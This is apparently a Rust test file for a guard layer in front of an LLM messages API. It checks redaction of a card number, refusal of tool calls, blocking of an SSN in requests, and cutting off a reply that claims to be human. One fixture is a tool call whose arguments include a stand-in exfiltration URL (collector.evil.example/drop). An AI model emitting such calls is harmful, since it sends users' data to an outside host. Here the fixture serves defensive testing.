//! Every protocol through the layer: what a client gets when something is redacted, refused or allowed.

use bytes::Bytes;
use http::StatusCode;
use serde_json::{Value, json};

use crate::support::guarded::{Script, enforce, guarded, post_to, send};

const CARD: &str = "4111 1111 1111 1111";
const SAFE: &str = "Your card [pii.payment_card] is on file";

/// Pieces of at most `size` bytes.
fn cut(bytes: &str, size: usize) -> Vec<Bytes> {
    bytes.as_bytes().chunks(size).map(Bytes::copy_from_slice).collect()
}

/// A stream through the guard, as what the client reads.
fn through(path: &str, stream: &str, size: usize) -> String {
    let (guard, _) = guarded(Script::events(cut(stream, size)), enforce());
    let (head, body) = send(&guard, post_to(path, r#"{"model":"m","stream":true}"#));
    assert_eq!(head.status, StatusCode::OK);
    String::from_utf8(body.to_vec()).unwrap()
}

/// The data of every event, as JSON.
fn data(stream: &str) -> Vec<Value> {
    stream.lines().filter_map(|line| line.strip_prefix("data: ")).map(|data| serde_json::from_str(data).unwrap()).collect()
}

/// A frame whose event has the name of its type.
fn frame(data: &Value) -> String {
    format!("event: {}\ndata: {data}\n\n", data["type"].as_str().unwrap())
}

fn joined<'a>(events: &'a [Value], kind: &str, text: impl Fn(&'a Value) -> &'a Value) -> String {
    events.iter().filter(|e| e["type"] == kind).map(|e| text(e).as_str().unwrap_or("")).collect()
}

mod anthropic {
    use super::*;

    const PATH: &str = "/v1/messages";

    fn start() -> String {
        let message = json!({"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": [], "stop_reason": null, "usage": {"input_tokens": 3, "output_tokens": 1}});
        frame(&json!({"type": "message_start", "message": message}))
    }

    fn block(index: u32, begin: &Value, deltas: &[Value]) -> String {
        let mut out = frame(&json!({"type": "content_block_start", "index": index, "content_block": begin}));
        for delta in deltas {
            out += &frame(&json!({"type": "content_block_delta", "index": index, "delta": delta}));
        }
        out + &frame(&json!({"type": "content_block_stop", "index": index}))
    }

    fn text(index: u32, pieces: &[&str]) -> String {
        let deltas: Vec<Value> = pieces.iter().map(|text| json!({"type": "text_delta", "text": text})).collect();
        block(index, &json!({"type": "text", "text": ""}), &deltas)
    }

    fn call(index: u32, arguments: &str) -> String {
        let deltas: Vec<Value> = arguments
            .as_bytes()
            .chunks(5)
            .map(|piece| json!({"type": "input_json_delta", "partial_json": std::str::from_utf8(piece).unwrap()}))
            .collect();
        block(index, &json!({"type": "tool_use", "id": format!("toolu_{index}"), "name": "kb_search", "input": {}}), &deltas)
    }

    fn end(reason: &str) -> String {
        frame(
            &json!({"type": "message_delta", "delta": {"stop_reason": reason, "stop_sequence": null}, "usage": {"output_tokens": 5}}),
        ) + &frame(&json!({"type": "message_stop"}))
    }

    const GOOD: &str = r#"{"q":"returns policy"}"#;
    const BAD: &str = r#"{"q":"returns","url":"https://collector.evil.example/drop?id=7"}"#;

    #[test]
    fn an_innocent_stream_passes_byte_for_byte() {
        let stream = start() + &text(0, &["Hel", "lo"]) + &call(1, GOOD) + &text(2, &["after"]) + &end("tool_use");
        for size in [1, 9, 10_000] {
            assert_eq!(through(PATH, &stream, size), stream);
        }
    }

    #[test]
    fn a_card_split_over_deltas_never_leaves() {
        let said = format!("Your card {CARD} is on file");
        for at in 1..said.len() {
            let stream = start() + &text(0, &[&said[..at], &said[at..]]) + &text(1, &["next"]) + &end("end_turn");
            let events = data(&through(PATH, &stream, 70));
            assert_eq!(joined(&events, "content_block_delta", |e| &e["delta"]["text"]), format!("{SAFE}next"), "cut at {at}");
            assert_eq!(events.len(), data(&stream).len());
        }
    }

    #[test]
    fn of_a_refused_call_nothing_leaves_and_the_stream_ends_properly() {
        for (first, second) in [(BAD, None), (GOOD, Some(BAD)), (BAD, Some(GOOD))] {
            let calls = call(1, first) + &second.map_or_else(String::new, |second| call(2, second));
            let stream = start() + &text(0, &["Let me look."]) + &calls + &text(3, &["after"]) + &end("tool_use");
            let events = data(&through(PATH, &stream, 200));
            let kinds: Vec<&str> = events.iter().map(|e| e["type"].as_str().unwrap()).collect();
            let wanted = [
                "message_start",
                "content_block_start",
                "content_block_delta",
                "content_block_stop",
                "message_delta",
                "message_stop",
            ];
            assert_eq!(kinds, wanted);
            assert_eq!(events[4]["delta"]["stop_reason"], "refusal");
            assert!(!events[4].to_string().contains("evil"));
        }
    }

    #[test]
    fn a_call_without_its_end_never_leaves() {
        let stream = start() + &text(0, &["Look."]) + &call(1, GOOD);
        for upto in [stream.len(), stream.len() - 30] {
            let got = through(PATH, &stream[..upto], 64);
            assert!(!got.contains("kb_search") && got.ends_with("{\"type\":\"message_stop\"}\n\n"), "{got}");
        }
    }

    #[test]
    fn a_promise_broken_in_text_ends_the_stream_before_it() {
        let stream = start() + &text(0, &["Hello. I am a hu", "man being, not a bot."]) + &end("end_turn");
        let events = data(&through(PATH, &stream, 50));
        let said = joined(&events, "content_block_delta", |e| &e["delta"]["text"]);
        assert!("Hello. ".starts_with(said.trim_end()) || said == "Hello. ", "{said}");
        assert_eq!(events.last().unwrap()["type"], "message_stop");
        assert_eq!(events[events.len() - 2]["delta"]["stop_reason"], "refusal");
    }

    #[test]
    fn whole_answers() {
        let answer = |content: Value| {
            json!({"id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": content, "stop_reason": "end_turn", "usage": {"input_tokens": 3, "output_tokens": 5}}).to_string()
        };
        let ask = |body: String| {
            let (guard, _) = guarded(Script::json(body), enforce());
            let (head, body) = send(&guard, post_to(PATH, r#"{"model":"m"}"#));
            assert_eq!(head.status, StatusCode::OK);
            String::from_utf8(body.to_vec()).unwrap()
        };
        let card = answer(json!([{"type": "text", "text": format!("Your card {CARD} is on file")}]));
        assert_eq!(ask(card.clone()), card.replace(CARD, "[pii.payment_card]"));
        let call = answer(
            json!([{"type": "text", "text": "Look."}, {"type": "tool_use", "id": "t", "name": "kb_search", "input": serde_json::from_str::<Value>(BAD).unwrap()}]),
        );
        let refused: Value = serde_json::from_str(&ask(call)).unwrap();
        assert_eq!((refused["stop_reason"].as_str(), refused["content"].as_array().map(Vec::len)), (Some("refusal"), Some(0)));
        let fine = answer(json!([{"type": "tool_use", "id": "t", "name": "kb_search", "input": {"q": "x"}}]));
        assert_eq!(ask(fine.clone()), fine);
    }

    #[test]
    fn a_refused_request_never_reaches_the_model() {
        let (guard, agent) = guarded(Script::json("{}"), enforce());
        let body = json!({"model": "m", "messages": [{"role": "user", "content": [{"type": "text", "text": "My SSN is 536-22-8731, please update my file"}]}]});
        let (head, body) = send(&guard, post_to(PATH, body.to_string()));
        let body: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(
            (head.status.as_u16(), body["type"].as_str(), body["error"]["type"].as_str()),
            (400, Some("error"), Some("invalid_request_error"))
        );
        assert!(agent.asked.lock().unwrap().is_empty());
    }
}
